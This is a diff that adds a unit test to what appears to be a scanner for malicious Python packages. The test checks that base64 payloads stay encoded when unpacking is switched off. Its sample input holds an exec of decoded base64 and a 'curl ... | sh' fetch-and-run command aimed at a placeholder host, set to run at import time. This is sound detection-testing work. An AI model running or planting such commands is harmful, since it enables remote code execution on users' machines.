@@ -84,6 +84,26 @@ TEST(Payloads, ExecOfBase64IsDecodedAndJudged) {
                 "exec-decoded", Severity::kCritical);
 }
 
+TEST(Payloads, UnpackOffLeavesPayloadsEncoded) {
+  // The switch scan_bench measures unpacking with: nothing is decoded, folded
+  // through a decoder or unwrapped blind, and the rest of the pass still runs.
+  PythonEngines off = Rules().python_engines();
+  off.unpack = false;
+  std::string code = std::string("import base64, os\nexec(base64.b64decode('") + kB64 +
+                     "'))\nx = '" + kB64 + "'\nos.system('curl http://example.invalid/x | sh')\n";
+  PythonSource src;
+  src.path = "pkg/__init__.py";
+  src.text = code;
+  src.phase = Phase::kImport;
+  std::vector<Finding> fs;
+  AnalyzePython(off, src, &fs);
+  EXPECT_EQ(Find(fs, "payload-decoded"), nullptr) << Rules(fs);
+  EXPECT_EQ(Find(fs, "exec-decoded"), nullptr) << Rules(fs);
+  for (const Finding& f : fs) EXPECT_EQ(f.file, "pkg/__init__.py") << f.rule;
+  EXPECT_NE(Find(fs, "process-at-import"), nullptr) << Rules(fs);
+  EXPECT_NE(Find(Analyze(code), "payload-decoded"), nullptr);
+}
+
 TEST(Payloads, AliasesAndBuiltinsLookups) {
   ExpectFinding(std::string("from base64 import b64decode as d\ne = eval\nexec(d('") + kB64 + "'))\n",
                 "download-exec");
